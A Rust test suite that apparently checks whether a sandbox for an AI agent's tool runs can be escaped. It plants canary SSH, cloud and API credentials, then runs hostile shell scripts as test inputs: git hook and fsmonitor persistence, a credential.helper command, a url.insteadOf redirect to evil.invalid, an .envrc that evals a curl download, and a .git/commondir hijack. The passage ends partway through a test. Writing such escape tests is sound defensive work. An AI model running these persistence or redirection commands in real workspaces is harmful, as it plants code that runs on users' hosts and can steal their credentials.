//! The escape suite: every abuse case of `ESCAPES.md` (A–H, and the parts of I the sandbox
//! alone can check), run through `ollie_sandbox::run` — the code path toolsrv uses.
//!
//! Each case checks (1) exit status / errno, (2) that the side effect is absent (canary hashes,
//! markers, canary listeners), (3) that the runner is healthy afterwards, and (4) the run
//! record (layers active). Network cases use loopback canaries the test starts itself.
//!
//! Without Landlock ABI 7 or user namespaces a case prints `SKIP <case>: <reason>`; with
//! `OLLIE_TEST_REQUIRE=all` it fails instead.
//!
//! The server-side cases of the same attack live beside the servers they start: the authority
//! of an `agent` attach (`authority.rs`), bounds on 9P clients and pre-auth floods
//! (`limits.rs`), what the approver sees, split verdicts, escaped denials and broker events
//! (`broker.rs`), redaction that never changes a tool call (`llm_openai.rs`), and terminal
//! injection into `o` (`cli/tests/o_terminal.rs`).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use ollie_policy::Policy;
use ollie_sandbox::{Cancel, Fault, RunOutput, RunRequest, SandboxError};
use std::collections::BTreeMap;
use std::ffi::OsString;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;

const PROBE_PY: &str = include_str!("escapes/t.py");

#[path = "common/memory.rs"]
mod memory;

// ---------------------------------------------------------------------------------------------
// Harness

// Visible SKIP lines and the kernel feature gate: the shared test kit.
use ollie_testkit::{features_ok, print_skip as skip};

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

fn token() -> String {
    let n = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    format!("{:x}{:x}", std::process::id(), n)
}

/// One case's private world: a workspace `w/`, a fake home with canaries, canary env vars.
struct Ctx {
    name: String,
    root: PathBuf,
    w: PathBuf,
    home: PathBuf,
    /// Secret canary files (path, content): never readable from inside.
    secrets: Vec<(PathBuf, String)>,
    /// Secret canary environment variables (name, value): never visible inside.
    env: Vec<(String, String)>,
    /// Non-secret host files whose content must not change.
    watched: Vec<PathBuf>,
}

fn sha(p: &Path) -> Option<Vec<u8>> {
    std::fs::read(p).ok()
}

impl Ctx {
    fn new(name: &str) -> Ctx {
        let root = std::env::temp_dir().join(format!("ollie-esc-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let w = root.join("w");
        let home = root.join("home");
        std::fs::create_dir_all(&w).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
        let tok = token();
        let mut secrets = Vec::new();
        for rel in [
            ".ssh/id_ed25519",
            ".aws/credentials",
            ".netrc",
            ".config/gh/hosts.yml",
            ".docker/config.json",
            ".kube/config",
            ".git-credentials",
            ".config/ollie/config.toml",
        ] {
            let p = home.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            let v = format!("CANARY-{}-{tok}", rel.replace(['/', '.'], "_"));
            std::fs::write(&p, &v).unwrap();
            secrets.push((p, v));
        }
        std::fs::write(home.join(".profile"), "# profile canary\n").unwrap();
        std::fs::write(home.join(".bashrc"), "# bashrc canary\n").unwrap();
        std::fs::set_permissions(home.join(".ssh"), std::fs::Permissions::from_mode(0o700))
            .unwrap();
        std::fs::write(w.join("t.py"), PROBE_PY).unwrap();
        let env = [
            "OPENAI_API_KEY",
            "ANTHROPIC_API_KEY",
            "AWS_SECRET_ACCESS_KEY",
            "GITHUB_TOKEN",
            "SSH_AUTH_SOCK",
            "DBUS_SESSION_BUS_ADDRESS",
            "XDG_RUNTIME_DIR",
            "KUBECONFIG",
            "OLLIE_BROKER_ADDR",
        ]
        .iter()
        .map(|k| (k.to_string(), format!("ENVCANARY-{k}-{tok}")))
        .collect();
        let watched = vec![home.join(".profile"), home.join(".bashrc")];
        Ctx {
            name: name.to_string(),
            root,
            w,
            home,
            secrets,
            env,
            watched,
        }
    }

    fn hashes(&self) -> Vec<Option<Vec<u8>>> {
        self.secrets
            .iter()
            .map(|(p, _)| p.clone())
            .chain(self.watched.iter().cloned())
            .map(|p| sha(&p))
            .collect()
    }

    fn request(&self, argv: &[&str]) -> RunRequest {
        let mut req = RunRequest::new(argv.iter().map(OsString::from).collect(), self.w.clone());
        req.home = self.home.clone();
        req.base_env = vec![
            ("LANG".into(), "C.UTF-8".into()),
            ("PATH".into(), "/should/not/leak".into()),
        ];
        for (k, v) in &self.env {
            req.base_env.push((k.into(), v.into()));
        }
        req
    }

    fn run_with(&self, policy: &Policy, req: &RunRequest) -> RunOutput {
        let before = self.hashes();
        let out = ollie_sandbox::run(policy, req)
            .unwrap_or_else(|e| panic!("{}: run refused: {:#}", self.name, anyhow_chain(&e)));
        assert_eq!(
            before,
            self.hashes(),
            "{}: a canary file changed",
            self.name
        );
        self.check_record(&out);
        self.check_no_leak(&out, &[]);
        self.check_healthy(policy);
        out
    }

    /// Runs `bash -c script` under `policy` and applies the common checks.
    fn run(&self, policy: &Policy, script: &str) -> RunOutput {
        let req = self.request(&["bash", "-c", script]);
        self.run_with(policy, &req)
    }

    fn check_record(&self, out: &RunOutput) {
        let r = &out.record;
        let ll = &r.layers.landlock;
        assert!(ll.abi >= 7, "{}: landlock abi", self.name);
        assert_eq!(
            serde_json::to_value(ll.status).unwrap(),
            "fully_enforced",
            "{}",
            self.name
        );
        assert_eq!(
            ll.handled_fs.len(),
            16,
            "{}: all ABI-7 fs rights handled",
            self.name
        );
        assert_eq!(
            ll.scopes,
            vec!["abstract_unix_socket", "signal"],
            "{}",
            self.name
        );
        assert_eq!(
            ll.handled_net,
            vec!["bind_tcp", "connect_tcp"],
            "{}",
            self.name
        );
        // One program: the range tree proven equivalent to the reference chain (bpf.rs), not
        // the three-program chain of ~1365 instructions.
        assert_eq!(r.layers.seccomp.filters, 1, "{}", self.name);
        assert!(r.layers.seccomp.instructions < 400, "{}", self.name);
        assert!(r.layers.no_new_privs);
        assert_eq!(r.layers.capabilities.bounding, 0);
        assert_eq!(r.layers.namespaces, vec!["user", "pid", "mount", "ipc"]);
        assert!(r.layers.mounts.read_only_root);
        assert!(!r.layers.best_effort_degraded);
        let json: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
        assert!(json["layers"]["landlock"]["abi"].is_number());
        assert!(json["exit"]["status"].is_number());
    }

    /// Case 49: no canary value in the record, the captured output or the workspace.
    fn check_no_leak(&self, out: &RunOutput, allowed: &[&str]) {
        let mut hay = String::new();
        hay.push_str(&out.record.to_json());
        hay.push_str(&String::from_utf8_lossy(&out.stdout));
        hay.push_str(&String::from_utf8_lossy(&out.stderr));
        for e in walk(&self.w) {
            if let Ok(b) = std::fs::read(&e) {
                hay.push_str(&String::from_utf8_lossy(&b));
            }
        }
        for v in self
            .secrets
            .iter()
            .map(|(_, v)| v.as_str())
            .chain(self.env.iter().map(|(_, v)| v.as_str()))
        {
            if allowed.contains(&v) {
                continue;
            }
            assert!(!hay.contains(v), "{}: canary {v} leaked", self.name);
        }
    }

    /// Case "runner healthy": another run works right after.
    fn check_healthy(&self, policy: &Policy) {
        let req = self.request(&["/bin/true"]);
        let out = ollie_sandbox::run(policy, &req).expect("runner healthy");
        assert_eq!(
            out.record.exit.status, 0,
            "{}: runner unhealthy after case",
            self.name
        );
    }
}

impl Drop for Ctx {
    fn drop(&mut self) {
        // Protected islands may be read-only only inside the sandbox; the host can clean up.
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        match e.file_type() {
            Ok(t) if t.is_dir() => out.extend(walk(&p)),
            Ok(t) if t.is_file() => out.push(p),
            _ => {}
        }
    }
    out
}

fn anyhow_chain(e: &SandboxError) -> String {
    let mut s = e.to_string();
    let mut cur: Option<&dyn std::error::Error> = std::error::Error::source(e);
    while let Some(c) = cur {
        s.push_str(": ");
        s.push_str(&c.to_string());
        cur = c.source();
    }
    s
}

fn profile_text(name: &str) -> String {
    ollie_policy::SHIPPED_PROFILES
        .iter()
        .find(|(n, _)| *n == name)
        .unwrap()
        .1
        .to_string()
}

/// P-std: the shipped default profile.
fn p_std() -> Policy {
    Policy::from_toml(&profile_text("workspace")).unwrap()
}

/// P-ro: P-std plus "the rest of the filesystem read-only" (secrets carved out).
fn p_ro() -> Policy {
    Policy::from_toml(&profile_text("workspace").replace("[fs]\n", "[fs]\nread_all = true\n"))
        .unwrap()
}

/// P-std with edits to the TOML text.
fn p_std_with(edit: impl Fn(String) -> String) -> Policy {
    Policy::from_toml(&edit(profile_text("workspace"))).unwrap()
}

fn with_limits(text: String, limits: &str) -> String {
    let start = text.find("[limits]").unwrap();
    let end = text[start..].find("\n[env]").unwrap() + start;
    format!("{}[limits]\n{limits}\n{}", &text[..start], &text[end..])
}

fn lines(out: &RunOutput) -> BTreeMap<String, String> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let mut it = l.splitn(2, ' ');
            Some((
                it.next()?.to_string(),
                it.next().unwrap_or("").trim().to_string(),
            ))
        })
        .collect()
}

#[track_caller]
fn expect(out: &RunOutput, label: &str, allowed: &[&str]) {
    let m = lines(out);
    let got = m.get(label).unwrap_or_else(|| {
        panic!(
            "probe {label} printed nothing; stdout:\n{}\nstderr:\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    assert!(
        allowed.contains(&got.as_str()),
        "probe {label}: got {got}, expected one of {allowed:?}\nstderr:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A shell probe printed a non-zero status.
#[track_caller]
fn expect_fail(out: &RunOutput, label: &str) {
    let m = lines(out);
    let got = m
        .get(label)
        .unwrap_or_else(|| panic!("probe {label} printed nothing: {:?}", out.stdout));
    assert_ne!(
        got,
        "0",
        "probe {label} succeeded; stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

const DENIED_W: &[&str] = &["EACCES", "EROFS", "EPERM"];

fn assert_absent(paths: &[&str]) {
    for p in paths {
        assert!(!Path::new(p).exists(), "{p} was created");
    }
}

fn py(code: &str) -> String {
    format!("python3 -c \"from t import *; {code}\"")
}

/// Held by the cases that measure the disk watchdog and by those that create or delete
/// masses of files. The watchdog samples whole filesystems, so space or inodes another test
/// frees meanwhile hide what the tool used (a 200,001-file delete let 200,000 files through
/// a 10,000-inode budget).
static DISK_QUIET: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// Held by the cases that measure the host's shared memory (`Shmem` in /proc/meminfo): it
/// is one figure for the whole machine, so two of them filling at once would each see the
/// other's fill as its own.
static MEMORY_QUIET: std::sync::Mutex<()> = std::sync::Mutex::new(());

macro_rules! case {
    (memory $name:ident, $body:expr) => {
        case!(@held MEMORY_QUIET, $name, $body);
    };
    (disk $name:ident, $body:expr) => {
        case!(@held DISK_QUIET, $name, $body);
    };
    (@held $quiet:ident, $name:ident, $body:expr) => {
        #[test]
        fn $name() {
            if !features_ok(stringify!($name)) {
                return;
            }
            // Taken before the workspace is made, released after it is removed.
            let _quiet = $quiet.lock().unwrap_or_else(|p| p.into_inner());
            let ctx = Ctx::new(stringify!($name));
            let f: fn(&Ctx) = $body;
            f(&ctx);
            drop(ctx);
        }
    };
    ($name:ident, $body:expr) => {
        #[test]
        fn $name() {
            if !features_ok(stringify!($name)) {
                return;
            }
            let ctx = Ctx::new(stringify!($name));
            let f: fn(&Ctx) = $body;
            f(&ctx);
        }
    };
}

// ---------------------------------------------------------------------------------------------
// A. Filesystem

case!(a01_write_outside_workspace_and_aliases, |c| {
    let bashrc = c.home.join(".bashrc");
    // Names of this process alone: a file or directory left at a fixed name by anything else
    // would change the errno (EISDIR) without telling anything about the sandbox.
    let n = format!("sbx-{}", std::process::id());
    let (etc, tmp) = (format!("/etc/{n}"), format!("/tmp/{n}"));
    assert_absent(&[&etc, &tmp]);
    let out = c.run(
        &p_std(),
        &py(&format!(
            "t('etc', lambda: write('{etc}')); t('bashrc', lambda: write('{}', 'a')); \
             t('dotdot', lambda: write('../../..{tmp}')); t('slashes', lambda: write('/{etc}')); \
             t('procroot', lambda: write('/proc/self/root{etc}')); t('proc1', lambda: write('/proc/1/cwd/{n}'))",
            bashrc.display()
        )),
    );
    for l in ["etc", "bashrc", "dotdot", "slashes", "procroot"] {
        expect(&out, l, DENIED_W);
    }
    expect(&out, "proc1", &["EACCES", "ENOENT", "EROFS"]);
    assert_absent(&[&etc, &tmp]);
});

case!(a02_truncate_readonly_file, |c| {
    let prof = c.home.join(".profile");
    let out = c.run(
        &p_ro(),
        &format!(
            "truncate -s0 {p}; echo \"trunc $?\"; : > {p}; echo \"redir $?\"; {}",
            py(&format!(
                "t('ostrunc', lambda: os.truncate('{}', 0))",
                prof.display()
            )),
            p = prof.display()
        ),
    );
    expect_fail(&out, "trunc");
    expect_fail(&out, "redir");
    expect(&out, "ostrunc", DENIED_W);
    assert_eq!(
        std::fs::read_to_string(&prof).unwrap(),
        "# profile canary\n"
    );
});

case!(a03_write_through_planted_symlink, |c| {
    let out = c.run(
        &p_std(),
        &py(&format!(
            "t('mkrc', lambda: os.symlink('{}', 'rc')); t('wrc', lambda: write('rc', 'a')); \
             t('mketc', lambda: os.symlink('/etc', 'etc')); t('wetc', lambda: write('etc/sbx'))",
            c.home.join(".bashrc").display()
        )),
    );
    expect(&out, "mkrc", &["OK"]);
    expect(&out, "mketc", &["OK"]);
    expect(&out, "wrc", DENIED_W);
    expect(&out, "wetc", DENIED_W);
    assert_absent(&["/etc/sbx"]);
});

case!(a04_hardlink_laundering, |c| {
    let out = c.run(
        &p_ro(),
        &py(&format!(
            "t('ln', lambda: os.link('{}', 'p')); t('append', lambda: write('p', 'a'))",
            c.home.join(".profile").display()
        )),
    );
    expect(&out, "ln", &["EXDEV", "EACCES", "EPERM"]);
    expect(&out, "append", &["OK"]); // creates a new, unrelated file /w/p
    assert_eq!(
        std::fs::read_to_string(c.home.join(".profile")).unwrap(),
        "# profile canary\n"
    );
});

case!(a05_rename_inside_ok_across_denied, |c| {
    let out = c.run(
        &p_ro(),
        &format!(
            "mkdir -p a b && touch a/f && mv a/f b/f && echo 'inside OK'; {}",
            py(&format!(
                "t('homein', lambda: os.rename('{}', 'profile')); t('etcout', lambda: os.rename('b/f', '/etc/f'))",
                c.home.join(".profile").display()
            ))
        ),
    );
    expect(&out, "inside", &["OK"]);
    expect(&out, "homein", &["EXDEV", "EACCES", "EROFS"]);
    expect(&out, "etcout", &["EXDEV", "EACCES", "EROFS"]);
    assert!(c.w.join("b/f").exists());
    assert_absent(&["/etc/f"]);
    assert!(c.home.join(".profile").exists());
});

case!(a06_persistence_in_git_and_editor_metadata, |c| {
    // Protected paths exist before the run (the mount namespace binds them read-only).
    assert!(
        Command::new("git")
            .args(["init", "-q"])
            .current_dir(&c.w)
            .status()
            .unwrap()
            .success()
    );
    for d in [".claude", ".vscode"] {
        std::fs::create_dir_all(c.w.join(d)).unwrap();
    }
    std::fs::write(c.w.join(".envrc"), "").unwrap();
    let config_before = std::fs::read(c.w.join(".git/config")).unwrap();
    let pol = p_std_with(|t| {
        t.replace(
            "protected = [",
            "protected = [\"{workdir}/.git\", \"{workdir}/.claude\", \"{workdir}/.vscode\", \"{workdir}/.envrc\", ",
        )
    });
    let out = c.run(
        &pol,
        "printf '#!/bin/sh\\ntouch /tmp/hook\\n' > .git/hooks/pre-commit; echo \"hook $?\"; \
         git config core.hooksPath .hooks; echo \"hookspath $?\"; \
         git config core.fsmonitor 'touch /tmp/fsm'; echo \"fsmonitor $?\"; \
         echo '{}' > .claude/settings.json; echo \"claude $?\"; \
         echo 'eval x' > .envrc; echo \"envrc $?\"; mkdir .vscode/x; echo \"vscode $?\"; \
         mkdir -p vendor/x && git -C vendor/x init -q; echo \"nested $?\"",
    );
    for l in [
        "hook",
        "hookspath",
        "fsmonitor",
        "claude",
        "envrc",
        "vscode",
    ] {
        expect_fail(&out, l);
    }
    // Nested repositories outside the protected list are writable, and flagged afterwards.
    expect(&out, "nested", &["0"]);
    assert!(
        out.record
            .post_run
            .flags
            .iter()
            .any(|f| f.kind == ollie_sandbox::FlagKind::NewRepository
                && f.path == Path::new("vendor/x/.git")),
        "{:?}",
        out.record.post_run.flags
    );
    assert!(!c.w.join(".git/hooks/pre-commit").exists());
    assert!(!c.w.join(".claude/settings.json").exists());
    assert_eq!(
        std::fs::read(c.w.join(".git/config")).unwrap(),
        config_before
    );
    assert_eq!(std::fs::read_to_string(c.w.join(".envrc")).unwrap(), "");
    for p in [".git", ".claude", ".vscode", ".envrc"] {
        let want = c.w.canonicalize().unwrap().join(p);
        assert!(
            out.record.layers.mounts.protected.contains(&want),
            "{p} not protected"
        );
    }
});

case!(a06b_missing_protected_paths_are_blocked, |c| {
    // The same attack on a workspace where none of the protected paths exist yet: the first
    // missing component of each is blocked for the run (an empty placeholder bound read-only)
    // and the host workspace is left exactly as it was.
    let pol = p_std_with(|t| {
        t.replace(
            "protected = [",
            "protected = [\"{workdir}/.git\", \"{workdir}/.claude/settings.json\", \"{workdir}/.vscode\", \"{workdir}/.envrc\", ",
        )
    });
    let out = c.run(
        &pol,
        "git init -q; echo \"init $?\"; mkdir -p .git/hooks; echo \"mkhooks $?\"; \
         printf '#!/bin/sh\\ntouch /tmp/hook\\n' > .git/hooks/pre-commit; echo \"hook $?\"; \
         mkdir -p .claude; echo '{}' > .claude/settings.json; echo \"claude $?\"; \
         echo 'eval x' > .envrc; echo \"envrc $?\"; mkdir -p .vscode/x; echo \"vscode $?\"; \
         rmdir .envrc; echo \"rmdir $?\"; mv .vscode v2; echo \"mv $?\"; ln -s /tmp .git2 && mv -T .git2 .git; echo \"swap $?\"; \
         mkdir -p vendor/x && git -C vendor/x init -q; echo \"nested $?\"; touch ok; echo \"other $?\"",
    );
    for l in [
        "init", "mkhooks", "hook", "claude", "envrc", "vscode", "rmdir", "mv", "swap",
    ] {
        expect_fail(&out, l);
    }
    expect(&out, "nested", &["0"]);
    expect(&out, "other", &["0"]);
    let w = c.w.canonicalize().unwrap();
    for p in [".git", ".claude", ".vscode", ".envrc"] {
        assert!(
            out.record.layers.mounts.placeholders.contains(&w.join(p)),
            "{p} not blocked: {:?}",
            out.record.layers.mounts.placeholders
        );
        assert!(!c.w.join(p).exists(), "placeholder {p} left on the host");
    }
    assert!(c.w.join("ok").exists());
    assert!(!c.w.join("v2").exists());
    assert_absent(&["/tmp/hook"]);
});

case!(a06c_persistence_is_flagged_by_the_post_run_diff, |c| {
    // "Landlock only": no protected islands at all (the policy declares none), so every write
    // of the case-6 script succeeds. The post-run diff must flag each persistence item, and
    // host-side git in the workspace is refused until a human acknowledges.
    assert!(
        Command::new("git")
            .args(["init", "-q"])
            .current_dir(&c.w)
            .status()
            .unwrap()
            .success()
    );
    let pol = p_std_with(|t| {
        let start = t.find("protected = [").unwrap();
        let end = t[start..].find(']').unwrap() + start + 1;
        format!("{}protected = []{}", &t[..start], &t[end..])
    });
    let out = c.run(
        &pol,
        "printf '#!/bin/sh\\ntouch /tmp/hook\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         git config core.hooksPath .hooks; git config core.fsmonitor 'touch /tmp/fsm'; \
         git config core.sshCommand 'sh -c id'; git config credential.helper '!touch /tmp/cred'; \
         git config url.https://evil.invalid/.insteadOf https://github.com/; \
         mkdir -p vendor/x && git -C vendor/x init -q && echo 'touch /tmp/n' > vendor/x/.git/hooks/post-checkout; \
         mkdir -p .claude .vscode; echo '{}' > .claude/settings.json; echo '{}' > .vscode/tasks.json; \
         echo 'eval \"$(curl -s x)\"' > .envrc; echo done 0",
    );
    expect(&out, "done", &["0"]);
    let flags = &out.record.post_run.flags;
    let has = |kind: ollie_sandbox::FlagKind, path: &str, detail: &str| {
        flags
            .iter()
            .any(|f| f.kind == kind && f.path == Path::new(path) && f.detail.contains(detail))
    };
    use ollie_sandbox::FlagKind::*;
    let want = [
        (GitHook, ".git/hooks/pre-commit", ""),
        (GitHook, "vendor/x/.git/hooks/post-checkout", ""),
        (NewRepository, "vendor/x/.git", ""),
        (GitConfig, ".git/config", "core.hookspath = .hooks"),
        (GitConfig, ".git/config", "core.fsmonitor"),
        (GitConfig, ".git/config", "core.sshcommand"),
        (GitConfig, ".git/config", "credential.helper"),
        (GitConfig, ".git/config", "insteadof = https://github.com/"),
        (WatchedFile, ".envrc", ""),
        (WatchedFile, ".claude/settings.json", ""),
        (WatchedFile, ".vscode/tasks.json", ""),
    ];
    for (k, p, d) in want {
        assert!(has(k, p, d), "no flag {k:?} {p} {d}: {flags:#?}");
    }
    // The record carries them as JSON.
    let json: serde_json::Value = serde_json::from_str(&out.record.to_json()).unwrap();
    assert!(json["post_run"]["flags"].as_array().unwrap().len() >= want.len());
    // Host-side git is refused until acknowledged; the hook never ran (no marker).
    let mut ws = ollie_sandbox::workspace::Workspace::open(&c.w).unwrap();
    ws.record_flags(flags);
    assert!(matches!(
        ws.git_allowed(),
        ollie_sandbox::GitDecision::Deny(_)
    ));
    assert!(ws.git_command().is_err());
    assert_eq!(ws.acknowledge_flags(flags), 0);
    assert_eq!(ws.git_allowed(), ollie_sandbox::GitDecision::Allow);
    assert_absent(&["/tmp/hook", "/tmp/fsm", "/tmp/n", "/tmp/cred"]);
    // A run that changes nothing flags nothing.
    let out = c.run(&pol, "git status --short >/dev/null; echo x > notes.txt");
    assert!(
        out.record.post_run.flags.is_empty(),
        "{:?}",
        out.record.post_run.flags
    );
});

case!(a06d_protected_island_cannot_be_moved_aside, |c| {
    // The default profile protects the whole of `.git`. Moving it aside, removing it, or
    // creating anything in it (a hook, a fresh `.git/hooks`) must fail: it is a read-only
    // mount point. git inside the sandbox can read the repository but not commit.
    assert!(
        Command::new("git")
            .args(["init", "-q"])
            .current_dir(&c.w)
            .status()
            .unwrap()
            .success()
    );
    let out = c.run(
        &p_std(),
        "mv .git .g2; echo \"mvgit $?\"; mv .git/hooks .git/h2; echo \"mvhooks $?\"; \
         rmdir .git; echo \"rmgit $?\"; mkdir -p .git/hooks/x; echo \"mkdir $?\"; \
         echo x > .git/hooks/pre-commit; echo \"hook $?\"; \
         git status --short >/dev/null; echo \"status $?\"; \
         git -c user.name=t -c user.email=t@e commit -q --allow-empty -m x 2>/dev/null; echo \"commit $?\"",
    );
    for l in ["mvgit", "mvhooks", "rmgit", "mkdir", "hook", "commit"] {
        expect_fail(&out, l);
    }
    expect(&out, "status", &["0"]);
    assert!(!c.w.join(".g2").exists());
    assert!(!c.w.join(".git/hooks/pre-commit").exists());
    assert!(
        out.record.post_run.flags.is_empty(),
        "{:?}",
        out.record.post_run.flags
    );
});

/// The `.git/commondir` redirection (issue 20 item 2): a copy of the repository with an
/// attacker's config, and `commondir` pointing at it, so that the next host `git status` runs
/// the attacker's fsmonitor command.
const COMMONDIR_ATTACK: &str = "mkdir ev; cp -r .git/objects .git/refs .git/HEAD ev/; \
     printf '[core]\\n\\tfsmonitor=\"touch MARKER;false\"\\n' > ev/config; \
     echo $PWD/ev > .git/commondir; echo \"commondir $?\"; \
     mkdir -p .git/worktrees/x && echo $PWD/ev > .git/worktrees/x/commondir; echo \"worktree $?\"; \
     echo '/tmp/alt' > .git/objects/info/alternates; echo \"alternates $?\"; \
     mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes; echo \"info $?\"; \
     mkdir -p .git/modules/m && printf '[core]\\n\\tfsmonitor=x\\n' > .git/modules/m/config; echo \"modules $?\"; \
     echo x > .git/config.worktree; echo \"configwt $?\"; \
     printf '[submodule \"s\"]\\n\\tpath = s\\n\\turl = ../evil\\n' > .gitmodules; echo \"gitmodules $?\"";

fn host_git_status(w: &Path) {
    // What the user does next, on the host: whatever the workspace's git files say runs.
    let _ = Command::new("git")
        .args(["status", "--short"])
        .current_dir(w)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
}

case!(a06e_git_commondir_redirection_is_refused_and_flagged, |c| {
    assert!(
        Command::new("git")
            .args(["init", "-q"])
            .current_dir(&c.w)
            .status()
            .unwrap()
            .success()
    );
    std::fs::create_dir_all(c.w.join(".git/objects/info")).unwrap();
    let marker = c.root.join("PWNED");
    let script = COMMONDIR_ATTACK.replace("MARKER", &marker.display().to_string());
    // Under the default profile every write into `.git` fails (read-only mount).
    let out = c.run(&p_std(), &script);
    for l in [
        "commondir",
        "worktree",
        "alternates",
        "info",
        "modules",
        "configwt",
    ] {
        expect_fail(&out, l);
    }
    assert!(!c.w.join(".git/commondir").exists());
    assert!(!c.w.join(".git/config.worktree").exists());
    host_git_status(&c.w);
    assert!(!marker.exists(), "host git ran the attacker's fsmonitor");
    // `.gitmodules` is workspace content (writable), and flagged.
    assert!(
        out.record
            .post_run
            .flags
            .iter()
            .any(|f| f.path == Path::new(".gitmodules")),
        "{:?}",
        out.record.post_run.flags
    );
    // With no protection at all (as an approved unsandboxed run has), every write lands,
    // and the post-run diff reports each of them.
    let bare = p_std_with(|t| {
        let start = t.find("protected = [").unwrap();
        let end = t[start..].find(']').unwrap() + start + 1;
        format!("{}protected = []{}", &t[..start], &t[end..])
    });
    let _ = std::fs::remove_dir_all(c.w.join("ev"));
    let _ = std::fs::remove_file(c.w.join(".gitmodules"));
    let out = c.run(&bare, &script);
    expect(&out, "commondir", &["0"]);
    let flags = &out.record.post_run.flags;
    use ollie_sandbox::FlagKind::*;
    for (kind, path) in [
        (GitMetadata, ".git/commondir"),
        (GitMetadata, ".git/worktrees/x/commondir"),
        (GitMetadata, ".git/objects/info/alternates"),
        (GitMetadata, ".git/info/attributes"),
        (GitConfig, ".git/modules/m/config"),
        (GitConfig, ".git/config.worktree"),
        (WatchedFile, ".gitmodules"),
    ] {
        assert!(
            flags
                .iter()
                .any(|f| f.kind == kind && f.path == Path::new(path)),
            "no flag {kind:?} {path}: {flags:#?}"
        );
    }
    // Removing one is reported too.
    let out = c.run(&bare, "rm .git/commondir; echo \"rm $?\"");
    expect(&out, "rm", &["0"]);
    assert!(
        out.record
            .post_run
            .flags
            .iter()
            .any(|f| f.path == Path::new(".git/commondir") && f.detail.contains("removed")),
        "{:?}",
        out.record.post_run.flags
    );
});

case!(a06f_persistence_hidden_from_the_runner_is_flagged, |c| {
    // The tool is the runner's user: it can take its own read permission away from what it
    // leaves, and git (search permission only) still runs it. A runner without CAP_DAC_* (the
    // unprivileged suite) cannot list what is hidden, so it must flag the place instead; as
    // root it sees through. Either way, each hidden item is named by a flag on it or on a
    // directory above it. A symlinked hooks directory is scanned where it points.
    for (dir, repo) in [("vendor/x", true), ("vendor/y", true), ("githooks", false)] {
        std::fs::create_dir_all(c.w.join(dir)).unwrap();
        if repo {
            assert!(
                Command::new("git")
                    .args(["init", "-q"])
                    .current_dir(c.w.join(dir))
                    .status()
                    .unwrap()
                    .success()
            );
        }
    }
    std::fs::remove_dir_all(c.w.join("vendor/y/.git/hooks")).unwrap();
    std::os::unix::fs::symlink("../../../githooks", c.w.join("vendor/y/.git/hooks")).unwrap();
    // Without `{workdir}/.git` protected, the nested repositories that exist are writable too
    // (with it they are read-only for the run: a06g).
    let pol = p_std_with(|t| t.replacen("\"{workdir}/.git\", ", "", 1));
    let out = c.run(
        &pol,
        "printf '#!/bin/sh\\ntouch /tmp/x\\n' > vendor/x/.git/hooks/post-checkout; \
         chmod 755 vendor/x/.git/hooks/post-checkout; chmod 111 vendor/x/.git/hooks; echo \"hooks $?\"; \
         mkdir -p deep/r && git -C deep/r init -q && chmod 111 deep; echo \"deep $?\"; \
         cp /bin/true vendor/y/.git/hooks/pre-commit && chmod 111 vendor/y/.git/hooks/pre-commit; echo \"linked $?\"",
    );
    for l in ["hooks", "deep", "linked"] {
        expect(&out, l, &["0"]);
    }
    let flags = &out.record.post_run.flags;
    for hidden in [
        "vendor/x/.git/hooks/post-checkout",
        "deep/r/.git",
        "vendor/y/.git/hooks/pre-commit",
    ] {
        assert!(
            flags
                .iter()
                .any(|f| Path::new(hidden).starts_with(&f.path) && !f.path.as_os_str().is_empty()),
            "{hidden} is not flagged: {flags:#?}"
        );
    }
    // What root sees by name, an unprivileged runner sees as places it cannot look into.
    let unreadable = flags
        .iter()
        .filter(|f| f.kind == ollie_sandbox::FlagKind::Unreadable)
        .count();
    if is_root() {
        assert_eq!(unreadable, 0, "{flags:#?}");
    } else {
        assert!(unreadable >= 2, "{flags:#?}");
    }
    for d in ["vendor/x/.git/hooks", "deep"] {
        let _ = std::fs::set_permissions(
            c.w.join(d),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        );
    }
});

case!(a07_metadata_changes_on_readonly_paths, |c| {
    let (ssh, bashrc, prof) = (
        c.home.join(".ssh"),
        c.home.join(".bashrc"),
        c.home.join(".profile"),
    );
    let modes = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode();
    let before = (
        modes(&ssh),
        modes(&bashrc),
        std::fs::metadata(&prof).unwrap().modified().unwrap(),
    );
    let out = c.run(
        &p_ro(),
        &format!(
            "{}; touch f && chmod +x f && test -x f && echo 'chmodws OK'",
            py(&format!(
                "t('chmod', lambda: os.chmod('{}', 0o777)); t('chmod0', lambda: os.chmod('{}', 0)); \
                 t('utime', lambda: os.utime('{}', (978307200, 978307200))); \
                 t('xattr', lambda: os.setxattr('{}', 'user.sbx', b'1')); \
                 t('chown', lambda: os.chown('/etc/hostname', os.getuid(), -1))",
                ssh.display(),
                bashrc.display(),
                prof.display(),
                prof.display()
            ))
        ),
    );
    for l in ["chmod", "chmod0", "utime", "xattr", "chown"] {
        expect(&out, l, &["EROFS", "EPERM"]);
    }
    expect(&out, "chmodws", &["OK"]);
    let after = (
        modes(&ssh),
